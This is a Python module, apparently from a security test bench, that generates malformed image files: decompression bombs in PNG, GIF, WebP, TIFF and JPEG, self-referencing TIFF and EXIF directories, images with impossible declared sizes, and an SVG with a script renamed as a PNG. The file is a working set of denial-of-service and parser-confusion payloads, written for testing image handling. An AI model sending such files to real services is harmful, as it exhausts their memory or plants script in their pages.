"""Pictures that are small on the disk and large in memory, or that never end."""

import io
import struct
import zlib

from PIL import Image

from bench.attacks.attack import attack

_PNG = b"\x89PNG\r\n\x1a\n"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def _png(width: int, height: int, rows: bytes, *extra: bytes, colour: int = 2) -> bytes:
    header = struct.pack(">LLBBBBB", width, height, 8, colour, 0, 0, 0)
    return _PNG + _chunk(b"IHDR", header) + b"".join(extra) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


@attack("data-bomb.png")
def data_bomb() -> bytes:
    """A picture of one dot with a hundred megabytes of data."""
    return _png(1, 1, _zeros(100 << 20))


@attack("text-bomb.png", b"zTXt", b"k\0\0")
@attack("profile-bomb.png", b"iCCP", b"k\0\0")
@attack("words-bomb.png", b"iTXt", b"k\0\1\0\0\0")
def text_bomb(kind: bytes, head: bytes) -> bytes:
    """A packed text of eighty megabytes beside one dot."""
    return _png(1, 1, zlib.compress(bytes(4)), _chunk(kind, head + _zeros(80 << 20)))


@attack("many-texts.png")
def many_texts() -> bytes:
    """Ten thousand texts beside one dot."""
    return _png(1, 1, zlib.compress(bytes(4)), *(_chunk(b"tEXt", b"key%d\0value" % n) for n in range(10_000)))


@attack("one-line.png", 2_000_000_000, 1)
@attack("one-column.png", 1, 2_000_000_000)
@attack("said-4-billion.png", 4_294_967_295, 4_294_967_295)
@attack("no-dots.png", 0, 0)
def odd_size(width: int, height: int) -> bytes:
    """A picture of an impossible size."""
    return _png(width, height, zlib.compress(bytes(100)))


@attack("just-allowed.png", 9_990, 9_990, 0, quick=False)
@attack("just-allowed-colour.png", 9_990, 9_990, 6, quick=False)
def just_allowed(width: int, height: int, colour: int) -> bytes:
    """Just below the limit of megapixels."""
    return _png(width, height, _zeros(width * height * (4 if colour == 6 else 1) + height + (1 << 20)), colour=colour)


@attack("frames-said-2-billion.png")
def many_said_frames() -> bytes:
    """An animation that claims two billion frames."""
    return _png(1, 1, zlib.compress(bytes(4)), _chunk(b"acTL", struct.pack(">LL", 2**31 - 1, 0)))


@attack("100000-frames.gif", 100_000, quick=False)
@attack("3000-frames.gif", 3_000)
def many_frames(count: int) -> bytes:
    """An animation of very many frames of one dot each."""
    head = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
    frame = b"\x21\xf9\4\0\1\0\0\0\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    return head + frame * count + b";"


@attack("large-screen.gif")
def large_screen() -> bytes:
    """Frames of one dot on a screen of four thousand megapixels."""
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + frame * 300 + b";"


@attack("animation.webp", quick=False)
def animated_webp() -> bytes:
    """Three hundred frames of sixteen megapixels in a few kilobytes."""
    Image.new("RGB", (4000, 4000)).save(buffer := io.BytesIO(), "WEBP", lossless=True)
    picture = buffer.getvalue()[12:]
    place = b"".join(number.to_bytes(3, "little") for number in (0, 0, 3999, 3999, 10)) + b"\0"
    frame = _riff(b"ANMF", place + picture)
    screen = _riff(b"VP8X", b"\2\0\0\0" + (3999).to_bytes(3, "little") * 2) + _riff(b"ANIM", bytes(6))
    return _riff(b"RIFF", b"WEBP" + screen + frame * 300)


def _riff(kind: bytes, data: bytes) -> bytes:
    return kind + struct.pack("<L", len(data)) + data + b"\0" * (len(data) % 2)


def _tiff(entries: list[tuple[int, int, int, int]], following: int, *, order: str = "<") -> bytes:
    rows = b"".join(struct.pack(order + "HHLL", *entry) for entry in entries)
    head = (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(order + "L", 8)
    return head + struct.pack(order + "H", len(entries)) + rows + struct.pack(order + "L", following)


_DOT = [
    (256, 4, 1, 1),
    (257, 4, 1, 1),
    (258, 3, 1, 8),
    (259, 3, 1, 1),
    (262, 3, 1, 1),
    (273, 4, 1, 8),
    (277, 3, 1, 1),
    (278, 4, 1, 1),
    (279, 4, 1, 1),
]


@attack("pages-in-a-circle.tiff")
def tiff_circle() -> bytes:
    """A page that follows itself."""
    return _tiff(_DOT, 8)


@attack("100000-pages.tiff", 100_000, quick=False)
@attack("2000-pages.tiff", 2_000, quick=False)
def many_pages(count: int) -> bytes:
    """Pages of one dot without end."""
    size = 2 + 12 * len(_DOT) + 4
    page = _tiff(_DOT, 0)[8:-4]
    pages = [page + struct.pack("<L", 8 + size * (n + 1) if n + 1 < count else 0) for n in range(count)]
    return b"II*\0" + struct.pack("<L", 8) + b"".join(pages)


@attack("huge-strips.tiff", [(256, 4, 1, 60_000), (257, 4, 1, 60_000), *_DOT[2:]])
@attack("endless-tag.tiff", [*_DOT, (270, 2, 2**32 - 1, 8), (700, 7, 2**31, 8), (34675, 7, 2**31 - 1, 8)])
@attack("strips-said-4-billion.tiff", [*_DOT[:5], (273, 4, 2**32 - 1, 8), *_DOT[6:8], (279, 4, 2**32 - 1, 8)])
@attack(
    "tiles-said-2-billion.tiff",
    [*_DOT[:5], (322, 4, 1, 2**31 - 16), (323, 4, 1, 2**31 - 16), (324, 4, 1, 8), (325, 4, 1, 9)],
)
@attack("samples-65535.tiff", [*_DOT[:2], (258, 3, 65_535, 8), *_DOT[3:6], (277, 3, 1, 65_535), *_DOT[7:]])
def odd_tiff(entries: list[tuple[int, int, int, int]]) -> bytes:
    """Tags that claim gigabytes."""
    return _tiff(entries, 0) + bytes(100)


@attack("facts-in-a-circle.jpg")
def exif_circle() -> bytes:
    """EXIF whose sub-directories are its first one."""
    exif = _tiff(
        [(34665, 4, 1, 8), (34853, 4, 1, 8), (40965, 4, 1, 8), (274, 3, 1, 99), (513, 4, 1, 8), (514, 4, 1, 2**31)], 8
    )
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "JPEG", exif=b"Exif\0\0" + exif)
    return buffer.getvalue()


@attack("5000-scans.jpg", 5_000, quick=False)
@attack("300-scans.jpg", 300, quick=False)
def many_scans(count: int) -> bytes:
    """A progressive picture of four megapixels whose last scan comes again and again."""
    buffer = io.BytesIO()
    Image.new("L", (2000, 2000), 128).save(buffer, "JPEG", progressive=True, quality=10)
    data = buffer.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * count + b"\xff\xd9"


@attack("said-65535.jpg")
def said_large() -> bytes:
    """A picture that claims four thousand megapixels."""
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    return bytes(data)


@attack("negative.bmp", -1000, -1000, 24)
@attack("huge.bmp", 2**31 - 1, 2**31 - 1, 32)
@attack("no-bits.bmp", 10, 10, 0)
@attack("most-negative.bmp", -(2**31), -(2**31), 1)
def odd_bitmap(width: int, height: int, bits: int) -> bytes:
    """A bitmap of an impossible size."""
    header = struct.pack("<LllHHLLllLL", 40, width, height, 1, bits, 0, 0, 0, 0, 2**32 - 1, 0)
    return b"BM" + struct.pack("<LHHL", 54, 0, 0, 54) + header + bytes(100)


@attack("drawing-named.png")
def named_wrong() -> bytes:
    """A drawing with a script that calls itself a PNG."""
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><use href="#a" id="a"/></svg>'


@attack("icon-named.png")
def icon() -> bytes:
    """An icon of odd sizes that calls itself a PNG."""
    return b"\0\0\1\0\xff\xff" + b"\0\0\0\0\1\0\x20\0\xff\xff\xff\x7f\x16\0\0\0" * 100


@attack("huge.heic")
def heic() -> bytes:
    """A HEIC picture that claims to be endless and holds nothing."""
    return (
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"
        + b"\xff\xff\xff\xffmeta"
        + b"\0\0\0\x14ispe\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xff" * 100
    )
